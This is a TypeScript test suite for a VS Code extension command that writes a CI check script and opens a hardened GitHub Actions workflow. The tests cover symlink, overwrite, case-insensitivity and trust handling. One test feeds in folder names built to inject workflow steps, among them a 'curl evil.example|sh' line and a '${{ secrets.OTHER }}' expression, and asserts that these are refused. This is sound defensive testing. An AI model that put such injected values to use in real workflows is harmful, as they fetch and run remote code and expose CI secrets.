import { strict as assert } from 'node:assert';
import { cp, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import * as vscode from 'vscode';
import { addCheck } from '../../../src/commands/addCheck.js';
import { UserError } from '../../../src/host/actions.js';
import { ManualClock } from '../../support/manualClock.js';
import { projectRoot } from '../../support/paths.js';
import { temporaryFolder } from '../../support/temporaryFolder.js';
import { until } from '../../support/window/editors.js';
import { atEndOfTest } from '../../support/window/endOfTest.js';
import { createGraph, type Graph } from '../../support/window/graph.js';
import { Global, settingIn, Workspace, writeSetting } from '../../support/window/settings.js';
import { StuckFiles } from '../../support/window/stuckFiles.js';
import { notificationsOf, recordWindow, replace } from '../../support/window/windowRecorder.js';

const section = 'automationPlatform.deployments';
const fileName = 'automation-platform-check.mjs';

describe('Add CI Check', () => {
  let graph: Graph;
  let extension: Awaited<ReturnType<typeof temporaryFolder>>;
  let target: string;
  const services = () => ({ ...graph.services, extensionUri: vscode.Uri.file(extension.path) });
  /** Chooses this folder, and presses these buttons. */
  const add = (folder = vscode.Uri.file(target), ...buttons: readonly string[]) => {
    replace(vscode.window, { showOpenDialog: async () => [folder] });
    return notificationsOf(() => addCheck(services()), ...buttons);
  };

  before(async () => {
    extension = await temporaryFolder();
    await mkdir(join(extension.path, 'dist'));
    await writeFile(join(extension.path, 'dist', 'check.mjs'), 'the check');
    await cp(join(projectRoot, 'media', 'ci'), join(extension.path, 'media', 'ci'), {
      recursive: true,
    });
  });
  after(() => extension.remove());
  beforeEach(async () => {
    graph = createGraph();
    target = join(extension.path, 'target');
    await rm(target, { recursive: true, force: true });
    await mkdir(target);
  });

  it('saves the file, and opens a workflow that gives the token to one step and never runs on pull requests', async () => {
    await writeSetting(section, ['dep_1'], Workspace);
    const said = await add();
    assert.equal(await readFile(join(target, fileName), 'utf8'), 'the check');
    assert.deepEqual(said, [
      [
        'information',
        `Saved ${fileName}. The workflow that runs it is open in an editor. Save the workflow to use it.`,
      ],
    ]);
    const { document } = vscode.window.activeTextEditor!;
    const workflow = document.getText();
    const code = workflow.replaceAll(/#.*/g, '');
    assert.deepEqual([document.languageId, document.isUntitled], ['yaml', true]);
    assert.match(
      code,
      /\n {2}schedule:\n.*\n {2}workflow_dispatch:\n {2}push:\n\s+branches: \[main\]\n/,
    );
    assert.doesNotMatch(code, /pull_request/);
    assert.match(code, /\npermissions:\n {2}contents: read\n/);
    assert.match(code, /persist-credentials: false/);
    for (const [, action] of code.matchAll(/uses: (.*)/g))
      assert.match(action!, /^actions\/\w+@[0-9a-f]{40} $/);
    assert.equal(code.match(/secrets\./g)?.length, 1);
    assert.match(workflow, new RegExp(`\\n +node \\./${fileName} --format github\\n`));
    assert.match(
      workflow,
      /# Labels of deployments and accounts, and errors that the platform reports, appear in the log/,
    );
    assert.match(
      workflow,
      new RegExp(`# For AGENTS.md:\\n# - .node \\./${fileName} --format json`),
    );
  });

  for (const [hangs, title] of [
    ['stat', `Reading the folder for ${fileName}`],
    ['writeFile', `Saving ${fileName}`],
  ] as const) {
    it(`shows a progress after a second when the folder does not answer ${hangs}`, async () => {
      const files = new StuckFiles('');
      files.hangs = hangs;
      const { progress } = recordWindow();
      const clock = new ManualClock();
      replace(vscode.window, {
        showOpenDialog: async () => [vscode.Uri.joinPath(files.uri, '..')],
      });
      const adding = addCheck(services(), clock.setTimer);
      atEndOfTest(() => adding);
      atEndOfTest(() => files.answerAll());
      await until('a call of the file system', () => files.isAsked);
      clock.pass(999);
      assert.deepEqual(progress, []);
      clock.pass(1);
      assert.deepEqual(progress, [title]);
    });
  }

  it('overwrites a file only after a question', async () => {
    await writeFile(join(target, fileName), 'mine');
    const said = await add();
    const exists = `A file with this name already exists in ${target}.`;
    assert.deepEqual(said, [['warning', `Overwrite ${fileName}?`, exists, 'Overwrite']]);
    assert.equal(await readFile(join(target, fileName), 'utf8'), 'mine');
    await add(undefined, 'Overwrite');
    assert.equal(await readFile(join(target, fileName), 'utf8'), 'the check');
  });

  describe('writes nothing, and says why,', () => {
    /** What is said of a target that `make` puts there. */
    const refused = async (make: (path: string) => Promise<unknown>) => {
      await make(join(target, fileName));
      const messages = await add(undefined, 'Overwrite').catch((error: unknown) => error);
      assert.ok(messages instanceof UserError, String(messages));
      return messages.message;
    };
    const link = `${fileName} in TARGET is a symbolic link, so nothing was written. Remove the link, or choose another folder.`;
    const cases: Record<
      string,
      readonly [make: (path: string) => Promise<unknown>, sentence: string]
    > = {
      'for a link to a file elsewhere': [
        async (path) => {
          await writeFile(join(extension.path, 'mine'), 'mine');
          await symlink(join(extension.path, 'mine'), path);
        },
        link,
      ],
      'for a link that leads nowhere': [
        (path) => symlink(join(extension.path, 'gone'), path),
        link,
      ],
      'for a link to a folder': [(path) => symlink(extension.path, path), link],
      'for a circle of links': [
        (path) => symlink(path, path),
        `${fileName} in TARGET could not be read, so nothing was written. Choose another folder. VS Code reported: Error: ELOOP: too many symbolic links encountered, stat 'TARGET/${fileName}'.`,
      ],
      'for a folder': [
        (path) => mkdir(path),
        `${fileName} in TARGET is not a file, so nothing was written. Rename it, or choose another folder.`,
      ],
    };
    for (const [name, [make, sentence]] of Object.entries(cases)) {
      it(name, async function () {
        // Only administrators can make links there.
        if (process.platform === 'win32' && name !== 'for a folder') return this.skip();
        assert.equal(await refused(make), sentence.replaceAll('TARGET', target));
        assert.ok(!(await readdir(extension.path)).includes('gone'));
        assert.notEqual(
          await readFile(join(extension.path, 'mine'), 'utf8').catch(() => 'mine'),
          'the check',
        );
      });
    }
  });

  it('names the folder to which a link leads', async function () {
    if (process.platform === 'win32') return this.skip();
    await writeFile(join(target, fileName), 'mine');
    const linked = join(extension.path, 'linked');
    await symlink(target, linked);
    atEndOfTest(() => rm(linked));
    const said = await add(vscode.Uri.file(linked));
    const exists = `A file with this name already exists in ${target}.`;
    assert.deepEqual(said, [['warning', `Overwrite ${fileName}?`, exists, 'Overwrite']]);
  });

  it('asks about a file of another case on a disk that knows no case', async () => {
    const disk = diskWithoutCase('Automation-Platform-Check.mjs');
    const folder = vscode.Uri.from({ scheme: disk.scheme, path: '/repo' });
    const exists = 'A file with this name already exists in /repo.';
    const question = ['warning', 'Overwrite Automation-Platform-Check.mjs?', exists, 'Overwrite'];
    assert.deepEqual(await add(folder), [question]);
    assert.deepEqual(disk.written, []);
    await add(folder, 'Overwrite');
    assert.deepEqual(disk.written, ['/repo/Automation-Platform-Check.mjs']);
  });

  describe('in a folder of the workspace', () => {
    const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    const addIn = async (name: string) => {
      await mkdir(join(root, name), { recursive: true });
      atEndOfTest(() => rm(join(root, name), { recursive: true }));
      return add(vscode.Uri.file(join(root, name)));
    };

    it('writes its path, quoted where it has a space, wherever the workflow names the file', async () => {
      await addIn('my tools');
      const workflow = vscode.window.activeTextEditor!.document.getText();
      assert.equal(
        workflow.match(/node "\.\/my tools\/automation-platform-check\.mjs"/g)?.length,
        3,
      );
      assert.equal(workflow.match(/automation-platform-check/g)?.length, 3);
      assert.doesNotMatch(workflow, /\{file\}/);
    });

    for (const name of [
      'a\n      - run: curl evil.example|sh\n  #',
      '${{ secrets.OTHER }}',
      "it's",
    ]) {
      it(`refuses the name ${JSON.stringify(name)} before anything is written`, async function () {
        if (process.platform === 'win32') return this.skip();
        const document = vscode.window.activeTextEditor?.document;
        await assert.rejects(addIn(name), ({ message }: Error) => {
          const character = /[\n$']/.exec(name)![0];
          assert.ok(
            message.includes(`contains “${character}”, which is not safe in a workflow`),
            message,
          );
          return true;
        });
        assert.deepEqual(await readdir(join(root, name)), []);
        assert.equal(vscode.window.activeTextEditor?.document, document);
      });
    }
  });

  it('counts what stands in user settings only, which CI cannot see, and copies it to the workspace', async () => {
    await writeSetting(section, ['dep_1'], Workspace);
    await writeSetting(section, ['dep_1', { id: 'dep_2', label: 'Second' }, 'dep_3'], Global);
    const said = await add(undefined, 'Overwrite', 'Copy to .vscode/settings.json');
    assert.match(
      said.flat().join('\n'),
      /2 deployments are listed only in your user settings, which CI cannot see\.\nCopy to \.vscode\/settings\.json/,
    );
    const all = settingIn(section, Global);
    await until('the copy', () => isDeepStrictEqual(settingIn(section), all));
    assert.deepEqual(all, ['dep_1', { id: 'dep_2', label: 'Second' }, 'dep_3']);
  });

  it('is refused in a workspace that is not trusted', async () => {
    const { deploymentList: trusted } = graph.services;
    const deploymentList: typeof trusted = Object.create(trusted, { isUntrusted: { value: true } });
    await assert.rejects(
      addCheck({ ...services(), deploymentList }),
      /This workspace is not trusted, so nothing was written/,
    );
  });
});

function none(): never {
  throw vscode.FileSystemError.NoPermissions();
}

/** One folder with one file, which is found by its name in any case. */
function diskWithoutCase(name: string) {
  const scheme = 'disk-without-case';
  const written: string[] = [];
  const isFile = ({ path }: vscode.Uri) => path.toLowerCase() === `/repo/${name.toLowerCase()}`;
  const stat = (uri: vscode.Uri): vscode.FileStat => {
    if (!isFile(uri) && uri.path !== '/repo') throw vscode.FileSystemError.FileNotFound(uri);
    const type = isFile(uri) ? vscode.FileType.File : vscode.FileType.Directory;
    return { type, ctime: 0, mtime: 0, size: 0 };
  };
  const provider: vscode.FileSystemProvider = {
    onDidChangeFile: new vscode.EventEmitter<vscode.FileChangeEvent[]>().event,
    watch: () => new vscode.Disposable(() => {}),
    stat,
    readDirectory: () => [[name, vscode.FileType.File]],
    readFile: () => new Uint8Array(),
    writeFile: ({ path }) => void written.push(path),
    createDirectory: none,
    delete: none,
    rename: none,
  };
  const registered = vscode.workspace.registerFileSystemProvider(scheme, provider, {
    isCaseSensitive: false,
  });
  atEndOfTest(() => registered.dispose());
  return { scheme, written };
}
